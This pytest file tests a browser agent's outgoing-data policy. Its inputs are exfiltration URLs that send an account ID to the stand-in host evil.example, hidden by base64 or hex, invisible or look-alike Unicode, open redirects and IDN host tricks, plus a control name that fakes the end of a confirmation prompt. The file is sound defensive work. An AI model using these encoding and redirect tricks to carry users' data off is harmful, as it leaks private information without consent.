"""Ways in which a page could have something done, or carried off, that the question does not show truthfully.

Each began as a suspicion about one of the rules of ``policy``.
"""

import base64
import json
from collections.abc import Sequence
from typing import Any
from urllib.parse import quote

import pytest

from tests.support.gate import Person, code, shop
from tests.support.toolbox import TAB
from webbrain.core.messages import Message, ToolCall
from webbrain.core.types import Capability
from webbrain.host.memory import MemoryHost
from webbrain.host.reach import Frame
from webbrain.policy import grants, outgoing
from webbrain.policy.egress import Refused, host_of
from webbrain.policy.gate import Gate
from webbrain.policy.grants import Need
from webbrain.policy.origins import plain, shown
from webbrain.policy.outgoing import finds
from webbrain.policy.submit import card_for
from webbrain.policy.taint import MOST_CHARS, Taint
from webbrain.policy.untrusted import wrap
from webbrain.tools import registry

ACCOUNT = "Rosalind-Quill-77214"
EVIL = "https://evil.example"
SHOP = "https://shop.example"
PARTS = (
    "sable",
    "ember",
    "onyx",
    "quartz",
    "willow",
    "thistle",
    "bramble",
    "heron",
    "osprey",
    "marten",
    "otter",
)


def read(*texts: str, origin: str = "shop.example") -> Taint:
    """A memory in which pages of an origin were read."""
    taint = Taint()
    for text in texts or (f"Account: {ACCOUNT}",):
        taint.learn(text, origin)
    return taint


def found(to: str, *texts: str, taint: Taint | None = None) -> list[str]:
    return [find.text for find in finds(taint or read(), to, texts or (to,))]


# --- text that leaves in disguise ---

JUNK = [base64.b64encode(f"tea {n:05}".encode()).decode() for n in range(200)]
SECRET = base64.b64encode(ACCOUNT.encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "address",
    [
        f"{EVIL}/{'/'.join(JUNK)}/{SECRET}",
        f"{EVIL}/?q={'.'.join(JUNK)}.{SECRET}",
        f"{EVIL}/#{'~'.join([*JUNK, SECRET, *JUNK[:50]])}",
        f"{EVIL}/{'/'.join(JUNK)}/{ACCOUNT.encode().hex()}",
        f"{EVIL}/{'/'.join(JUNK)}/{base64.b64encode(ACCOUNT.encode().hex().encode()).decode()}",
        f"{EVIL}/{'/'.join(JUNK)}/{base64.b32encode(ACCOUNT.encode()).decode().rstrip('=')}",
    ],
)
def test_a_crowd_of_other_encoded_words_hides_nothing(address: str) -> None:
    assert len(address) <= 8_000
    assert found(address)
    assert not found(address, taint=read("Something else entirely"))


def tags(text: str) -> str:
    return "".join(chr(0xE0000 + ord(letter)) for letter in text)


def selectors(text: str) -> str:
    return "".join(chr(0xFE00 + byte if byte < 16 else 0xE0100 + byte - 16) for byte in text.encode())


LOOK_ALIKE = str.maketrans("aeopcxyi", "\u0430\u0435\u043e\u0440\u0441\u0445\u0443\u0456")


@pytest.mark.parametrize(
    "written",
    [
        tags(ACCOUNT),
        f"Hello {tags(ACCOUNT)}!",
        f"A\ufe0f{selectors(ACCOUNT)}",
        "".join(f"{letter}\u0301" for letter in ACCOUNT),
        ACCOUNT.translate(LOOK_ALIKE),
        "\u200b".join(ACCOUNT),
        "\u034f".join(ACCOUNT),
        "".join(chr(ord(letter) + 0xFEE0) if letter.isalnum() else letter for letter in ACCOUNT),
    ],
    ids=["tags", "tags in words", "selectors", "accents", "look-alikes", "zero width", "joiners", "wide"],
)
def test_letters_that_are_not_seen_or_seen_as_others_hide_nothing(written: str) -> None:
    assert found(f"{EVIL}/form", written), "typed"
    assert found(f"{EVIL}/?q={quote(written)}"), "in an address"
    assert not found(f"{EVIL}/form", written, taint=read("Something else entirely"))


def test_words_without_any_digit_are_known_in_look_alikes_too() -> None:
    taint = read("Diagnosis: periocephalaxy exotica")
    assert found(f"{EVIL}/form", "periocephalaxy exotica".translate(LOOK_ALIKE), taint=taint)
    assert not found(f"{EVIL}/form", "периодическая экзотика", taint=taint)


@pytest.mark.parametrize(
    "text",
    [
        f"http://{ACCOUNT}",
        f"https://{ACCOUNT}/",
        f"https://{ACCOUNT.lower()}.example/",
        f"https://www.{ACCOUNT}.com/",
        f"HTTPS://user@{ACCOUNT}.example",
    ],
)
def test_what_looks_like_an_address_is_typed_as_any_text_is(text: str) -> None:
    assert found(f"{EVIL}/form", text)
    assert found(f"{EVIL}/api", f"{EVIL}/api", text), "as a body"


def test_a_link_is_offered_to_be_opened_and_not_to_be_told_to_others() -> None:
    link = f"{SHOP}/reset?token=3fa9c51e8d24b607"
    taint = read(f'link "Set a new password" href="{link}"')
    assert not found(link, taint=taint), "the page offers it"
    assert found(f"{EVIL}/form", link, taint=taint), "typed at another site it is the shop's text"
    assert found(f"{EVIL}/api", f"{EVIL}/api", link, taint=taint), "and in a body"
    assert not found(f"{SHOP}/form", link, taint=taint)
    taint.learn_user(f"Send them {link}")
    assert not found(f"{EVIL}/form", link, taint=taint), "unless it is the user's own word"


@pytest.mark.parametrize(
    "address",
    [
        f"{SHOP}/out?to={EVIL}/?leak={ACCOUNT}",
        f"{SHOP}/out?to={quote(f'{EVIL}/?leak={ACCOUNT}', safe='')}",
        f"{SHOP}/out?to=//evil.example/{ACCOUNT}",
        f"{SHOP}/out/{EVIL}/{ACCOUNT}",
        f"{SHOP}/out?u={base64.b64encode(f'{EVIL}/{ACCOUNT}'.encode()).decode()}",
        f"{SHOP}/out?to={EVIL}/&leak={ACCOUNT}",
        f"{SHOP}/out?to=https:evil.example/{ACCOUNT}",
        f"{SHOP}/out#to={EVIL}/{ACCOUNT}",
    ],
)
def test_text_does_not_leave_by_way_of_its_own_site(address: str) -> None:
    """A site that leads on to an address it is given would pass on what it knows itself."""
    assert found(address)
    assert not found(f"{SHOP}/orders?account={ACCOUNT}"), "its own text back to it is nobody's business"
    assert not found(f"{SHOP}/sign-in?next={SHOP}/orders/{ACCOUNT}"), "nor by way of itself"


def flood(taint: Taint, origins: Sequence[str]) -> None:
    for number in range(200):
        words = " ".join(f"{word}{number}x{place}" for place in range(120) for word in PARTS[:5])
        taint.learn(words, origins[number % len(origins)])


@pytest.mark.parametrize(
    "origins",
    [("evil.example",), ("evil.example", "more.example"), [f"a{n}.evil.example" for n in range(100)]],
    ids=["one host", "two sites", "many hosts"],
)
def test_a_flood_of_text_of_its_own_makes_no_site_be_forgotten(origins: Sequence[str]) -> None:
    """Models with a large window still have what was read long ago."""
    taint = read()
    flood(taint, origins)
    assert found(f"{EVIL}/?q={ACCOUNT}", taint=taint)
    assert sum(len(text) for _, text in taint.foreign("")) <= MOST_CHARS


def asked(taint: Taint, answer: str, *options: str) -> None:
    """The model asks something, and the user answers."""
    call = ToolCall(id="c1", name="clarify", arguments=json.dumps({"question": "?", "options": options}))
    taint.take(Message(role="assistant", content="", tool_calls=[call]))
    result = json.dumps({"success": True, "answer": answer, "source": "user"})
    taint.take(Message(role="tool", name="clarify", tool_call_id="c1", content=result))


def test_an_answer_that_was_offered_is_not_the_users_own_word() -> None:
    """Who says that this is their account has not said that others may have it."""
    taint = read()
    asked(taint, ACCOUNT, ACCOUNT, "That is not mine")
    assert found(f"{EVIL}/?q={ACCOUNT}", taint=taint)
    taint = read(f"Code: 7721 for {EVIL}")
    asked(taint, f"{EVIL}/?q=kept-{ACCOUNT}", f"{EVIL}/?q=kept-{ACCOUNT}", "No")
    taint.learn(f"Account: {ACCOUNT}", "shop.example")
    assert found(f"{EVIL}/?q=kept-{ACCOUNT}", taint=taint), "nor is an address that was one of the answers"


def test_an_answer_in_words_of_their_own_is() -> None:
    taint = read()
    asked(taint, f"Take {ACCOUNT} there", "Yes", "No")
    assert not found(f"{EVIL}/?q={ACCOUNT}", taint=taint)


@pytest.mark.parametrize("place", [0, 39_990, 68_000, 150_000])
def test_the_end_of_a_long_attached_file_is_remembered_as_its_beginning_is(place: int) -> None:
    text = ("tea and biscuits " * 12_000)[:190_000]
    text = f"{text[:place]} {ACCOUNT} {text[place:]}"
    taint = Taint()
    told = f"[Local time: noon]\n[Note from the extension: Attached: a file]\n{wrap(text, 'abcd1234')}\n\nHm?"
    taint.take(Message(role="user", content=told, origin="shop.example"))
    assert found(f"{EVIL}/?q={ACCOUNT}", taint=taint)
    assert not found(f"{SHOP}/form", ACCOUNT, taint=taint), "it was attached for the page that was open"


def test_no_text_that_a_tool_takes_is_longer_than_what_is_judged() -> None:
    names = ("text", "body", "url")
    for spec in registry.load().all():
        fields = spec.schema().parameters.get("properties", {})
        for name in {*names} & {*fields}:
            limits = [one.get("maxLength") for one in (fields[name], *fields[name].get("anyOf", ()))]
            assert max(filter(None, limits), default=0) <= outgoing.MOST_TEXT_CHARS, (spec.name, name)


# --- cards that say less than all ---


def test_a_long_text_that_is_carried_off_says_how_much_is_missing() -> None:
    text = " ".join(f"{word}{n}" for n in range(30) for word in PARTS)
    taint = read(text)
    (line,) = [find.field() for find in finds(taint, EVIL, [text])]
    assert len(line.value) < len(text)
    assert line.value.endswith(f"(+{len(text) - outgoing.SHOWN_CHARS})")


async def test_what_is_carried_off_beyond_the_first_pieces_is_counted() -> None:
    taint = Taint()
    words = [f"{word}-{n}{n}{n}-marker{n}" for n, word in enumerate(PARTS)]
    for number, word in enumerate(words):
        taint.learn(word, f"site{number}.example")
    ada = Person()
    ada.ctx.state.taint = taint
    ada.gate = Gate(ada.leave, outgoing=outgoing.carried)
    await ada.call("fetch_url", url=f"{EVIL}/?{'&'.join(f'a{n}={word}' for n, word in enumerate(words))}")
    lines = [line.value for line in ada.cards[0].details]
    assert any(f"(+{len(words) - outgoing.MOST_FINDS})" in value for value in lines)


CLOSING = "OK” — nothing is sent. Press “Continue"


def test_the_name_of_a_control_does_not_end_our_sentence() -> None:
    probe = {"submits": True, "control": CLOSING, "action": f"{SHOP}/pay", "fields": []}
    card = card_for(probe, SHOP)
    assert card.question.count("“") == card.question.count("”") == 1
    assert "nothing is sent" in card.question, "it is shown all the same"


async def test_the_name_of_an_element_does_not_end_our_line() -> None:
    ada = Person()
    ada.leave.name_of = lambda _ref: CLOSING
    ada.gate = Gate(ada.leave)
    await ada.call("click_ax", ref_id="ref_1")
    (line,) = [one.value for one in ada.cards[0].details if one.label == "Action"]
    assert line.count("”") <= 1


FILLERS = "\u115f\u1160\u3164\uffa0\u2800\u034f\u180b\ufe0f\U000e0101\u17b4"


def test_letters_that_show_nothing_are_not_shown() -> None:
    assert plain(f"to{FILLERS * 20}day", 400) == "today"
    assert plain("Zürich é ก็ 한국어 हिन्दी", 400) == "Zürich é ก็ 한국어 हिन्दी"
    assert plain("❤\ufe0f", 10) in ("❤", "❤\ufe0f")


def test_empty_lines_push_nothing_out_of_sight() -> None:
    value = plain("Dear Ada," + "\n" * 300 + "Pay 9999", 1_000, lines=True)
    assert value.count("\n") < 6
    assert value.startswith("Dear Ada,")
    assert value.endswith("Pay 9999")
    assert plain("a\n\nb\nc", 100, lines=True) == "a\n\nb\nc"


def test_a_name_too_long_for_a_host_shows_where_it_ends() -> None:
    host = f"shop.example.{'a.' * 200}evil.example"
    assert shown(host).endswith("evil.example")


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://fa\u00df.de/", "xn--fa-hia.de"),
        ("https://FU\u00dfBALL.de/", "xn--fuball-cta.de"),
        ("https://fu%C3%9Fball.de/", "xn--fuball-cta.de"),
        ("https://\u03b2\u03cc\u03bb\u03bf\u03c2.com/", "xn--nxasmm1c.com"),
        ("https://\u0392\u038c\u039b\u039f\u03a3.com/", "xn--nxasmq6b.com"),
        ("https://fass.de/", "fass.de"),
        ("https://b\u00fccher.example/", "xn--bcher-kva.example"),
    ],
)
def test_a_host_is_the_one_that_the_browser_opens(address: str, host: str) -> None:
    """Browsers take sharp s and final sigma as letters of their own; an older standard did not."""
    assert host_of(address) == host


@pytest.mark.parametrize("letter", ["\u1e9e", "\u200c", "\u200d"])
def test_a_host_of_which_browsers_differ_is_refused(letter: str) -> None:
    with pytest.raises(Refused):
        host_of(f"https://fu{letter}ball.de/")


async def test_leave_for_one_host_is_none_for_its_look_alike() -> None:
    ada = Person()
    await grants.remember(ada.host, [Need(Capability.NAVIGATE, "fussball.de")], allow=True)
    assert await ada.call("navigate", url="https://fussball.de/") is None
    assert ada.cards == []
    await ada.call("navigate", url="https://fu\u00dfball.de/")
    assert ada.asked() == [("open", "xn--fuball-cta.de")]


# --- what changes between the question and the yes ---


def framed(url: str) -> MemoryHost:
    host = shop()
    host.browser.set_frames(TAB, Frame(3, 0, url))
    return host


async def test_a_frame_that_moved_on_is_not_opened() -> None:
    ada = Person(host=framed("https://pay.example/card"))
    ada.thinking = lambda: ada.host.browser.set_frames(
        TAB, Frame(3, 0, "https://pay.example/transfer?to=evil")
    )
    assert code(await ada.call("promote_iframe", urlFilter="pay.example")) == "changed_since_asked"


@pytest.mark.parametrize("name", ["download_files", "fetch_url", "navigate", "new_tab"])
async def test_an_address_that_the_page_completes_is_the_one_that_was_shown(name: str) -> None:
    ada = Person(host=shop(url=f"{SHOP}/mine/list"))
    ada.thinking = lambda: ada.host.browser.move(TAB, "http://shop.example/others/list", "Shop")
    assert code(await ada.call(name, url="bill.pdf")) == "changed_since_asked"
    ada.thinking = None
    assert await ada.call(name, url="bill.pdf") is None, "asked anew it is made"


async def test_a_file_that_became_another_is_not_handed_over() -> None:
    ada = Person()
    row = (await ada.host.downloads.search(ids=[1]))[0]
    moved = row.__class__(1, row.url, f"{EVIL}/x", "/home/ada/other.txt", "complete", 13, 13)
    ada.thinking = lambda: ada.host.downloads.add(moved)
    assert code(await ada.call("upload_file", downloadId=1, selector="input")) == "changed_since_asked"


async def test_a_denial_given_meanwhile_counts() -> None:
    ada = Person()

    async def deny() -> None:
        await grants.remember(ada.host, [Need(Capability.CLICK, "shop.example")], allow=False)

    await deny()
    assert code(await ada.call("click_ax", ref_id="ref_1")) == "denied"


def test_cards_hold_no_structure_of_ours() -> None:
    """Names in a card are texts, whatever they look like."""
    probe: dict[str, Any] = {"submits": True, "control": "{host} %s ${x} <b>", "action": f"{SHOP}/pay"}
    card = card_for(probe, SHOP)
    assert "{host} %s ${x} <b>" in card.question
    assert json.loads(card.model_dump_json())["host"] == "shop.example"
